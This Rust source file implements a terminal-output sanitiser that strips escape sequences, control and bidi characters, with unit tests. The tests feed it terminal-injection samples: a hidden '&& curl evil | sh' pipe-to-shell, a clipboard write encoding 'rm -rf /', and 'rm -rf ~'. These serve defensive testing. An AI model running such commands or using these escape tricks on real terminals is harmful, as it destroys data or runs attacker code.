//! Text from outside (a session's title, a command, a question, a box's error, a pane's screen)
//! on its way to a terminal, a log or a notification (issues 34 and 45): the one sanitiser, so
//! nothing printed can move the cursor, clear the screen, hide what follows (`ESC[8m`), write
//! the clipboard (OSC 52), ring the bell, or reorder what is read (bidi controls). Escape
//! sequences are removed whole (a terminal would act on them, not show them), every other
//! control character and every bidi control is removed, and the text around them is kept.

/// `text` safe to print: line breaks and tabs kept; escape sequences (CSI, OSC, DCS, … — 7-bit
/// and C1), every other control character (C0, DEL, C1) and the bidi controls removed.
pub fn printable(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\n' | '\t' => out.push(c),
            '\u{1b}' => match chars.peek().copied() {
                Some('[') => {
                    chars.next();
                    skip_csi(&mut chars);
                }
                Some(']' | 'P' | 'X' | '^' | '_') => {
                    chars.next();
                    skip_string(&mut chars);
                }
                Some(' '..='/') => {
                    while chars.next_if(|c| matches!(c, ' '..='/')).is_some() {}
                    chars.next_if(|c| matches!(c, '0'..='~'));
                }
                Some('0'..='~') => {
                    chars.next();
                }
                _ => {}
            },
            '\u{9b}' => skip_csi(&mut chars),
            '\u{90}' | '\u{98}' | '\u{9d}' | '\u{9e}' | '\u{9f}' => skip_string(&mut chars),
            c if is_unsafe(c) => {}
            c => out.push(c),
        }
    }
    out
}

/// A control character, DEL, a C1 control or a bidi control: never printed.
fn is_unsafe(c: char) -> bool {
    c.is_control() || is_bidi(c)
}

/// The characters that reorder what follows them on screen (and the marks that steer them).
fn is_bidi(c: char) -> bool {
    matches!(c, '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// The rest of a control sequence: parameters and intermediates, then its final byte. A
/// sequence cut short ends where the text stops being one.
fn skip_csi(chars: &mut std::iter::Peekable<std::str::Chars<'_>>) {
    while chars.next_if(|c| matches!(c, '0'..='?' | ' '..='/')).is_some() {}
    chars.next_if(|c| matches!(c, '@'..='~'));
}

/// The rest of a string sequence (OSC, DCS, SOS, PM, APC): up to BEL or ST. One never ended
/// stops at the end of its line, so it cannot swallow what is printed after it.
fn skip_string(chars: &mut std::iter::Peekable<std::str::Chars<'_>>) {
    while let Some(c) = chars.peek().copied() {
        match c {
            '\n' => return,
            '\u{7}' | '\u{9c}' => {
                chars.next();
                return;
            }
            '\u{1b}' => {
                chars.next();
                chars.next_if_eq(&'\\');
                return;
            }
            _ => {
                chars.next();
            }
        }
    }
}

/// [`printable`] for a field that is one line (a title, a command, a name): line breaks,
/// tabs and other breaking whitespace become spaces, so a field cannot draw a line of its own.
pub fn printable_line(text: &str) -> String {
    let flat: String = text
        .chars()
        .map(|c| {
            if matches!(c, '\n' | '\r' | '\t' | '\u{b}' | '\u{c}' | '\u{85}' | '\u{2028}' | '\u{2029}') {
                ' '
            } else {
                c
            }
        })
        .collect();
    printable(&flat)
}

/// JSON text safe to print: what serde leaves raw inside strings — C1 controls, DEL and the
/// bidi controls (and any C0 but the whitespace between tokens) — written as `\uXXXX`, which
/// reads back as the same string.
pub fn json_safe(json: &str) -> String {
    let mut out = String::with_capacity(json.len());
    for c in json.chars() {
        if (is_unsafe(c) && !matches!(c, '\n' | '\r' | '\t')) || matches!(c, '\u{2028}' | '\u{2029}') {
            out.push_str(&format!("\\u{:04x}", c as u32));
        } else {
            out.push(c);
        }
    }
    out
}

/// At most `most` characters of `text`, with `…` when clipped.
pub fn clip_chars(text: &str, most: usize) -> String {
    if text.chars().count() <= most {
        return text.to_owned();
    }
    text.chars().take(most.saturating_sub(1)).collect::<String>() + "…"
}

/// A notification body for servers that read markup (`<b>`, `<a href>`, `<img>`): `&`, `<` and
/// `>` as entities, and the text [`printable`].
pub fn notification_body(text: &str) -> String {
    printable(text).replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn osc_52_csi_bel_and_hidden_text_are_removed_and_the_text_kept() {
        // An OSC 52 clipboard write, ended by BEL; by ST.
        assert_eq!(printable("title\x1b]52;c;cm0gLXJmIC8=\x07 end"), "title end");
        assert_eq!(printable("a\x1b]0;fake title\x1b\\b"), "ab");
        // Clear the screen; hide the tail of a command; a charset switch; a reset.
        assert_eq!(printable("ls\x1b[2J"), "ls");
        assert_eq!(printable("rm -rf build \x1b[8m&& curl evil | sh"), "rm -rf build && curl evil | sh");
        assert_eq!(printable("a\x1b(Bb\x1bcc"), "abc");
        // An OSC never ended swallows its line only.
        assert_eq!(printable("x\x1b]52;c;AAAA\nnext line"), "x\nnext line");
        assert_eq!(printable("cut\x1b["), "cut");
        assert_eq!(printable("cut\x1b"), "cut");
    }

    #[test]
    fn c1_controls_del_cr_and_bidi_controls_are_removed_and_text_is_kept() {
        assert_eq!(printable("a\u{9b}2Jb"), "ab", "C1 CSI");
        assert_eq!(printable("a\u{9d}52;c;AAAA\u{9c}b"), "ab", "C1 OSC");
        assert_eq!(printable("x\u{7f}y\u{85}z"), "xyz");
        assert_eq!(printable("safe\roverwritten"), "safeoverwritten", "a CR cannot overwrite the line");
        assert_eq!(printable("a\u{202e}cba\u{2066}\u{200f}"), "acba");
        assert_eq!(printable("line one\n\tline two — ünïcödé ✓ 日本"), "line one\n\tline two — ünïcödé ✓ 日本");
        assert_eq!(printable_line("a\nb\r\n1. Allow: rm -rf ~"), "a b  1. Allow: rm -rf ~");
        assert_eq!(printable_line("tab\there\u{2028}x"), "tab here x");
    }

    #[test]
    fn json_keeps_its_meaning_and_loses_its_raw_controls() {
        let value = serde_json::json!({"title": "a\u{9b}2J\u{202e}b\u{7f}", "ok": "ünï\n"});
        let text = json_safe(&serde_json::to_string_pretty(&value).unwrap());
        assert!(!text.chars().any(|c| c == '\u{9b}' || c == '\u{202e}' || c == '\u{7f}'), "{text}");
        assert!(text.contains("\\u009b") && text.contains("\\u202e"), "{text}");
        assert_eq!(serde_json::from_str::<serde_json::Value>(&text).unwrap(), value);
    }

    #[test]
    fn notification_bodies_are_markup_escaped() {
        assert_eq!(
            notification_body("<a href=\"x\">click</a> & <b>\x1b[2J"),
            "&lt;a href=\"x\"&gt;click&lt;/a&gt; &amp; &lt;b&gt;"
        );
    }

    #[test]
    fn clipping_counts_characters() {
        assert_eq!(clip_chars("héllo", 3), "hé…");
        assert_eq!(clip_chars("héllo", 5), "héllo");
    }
}
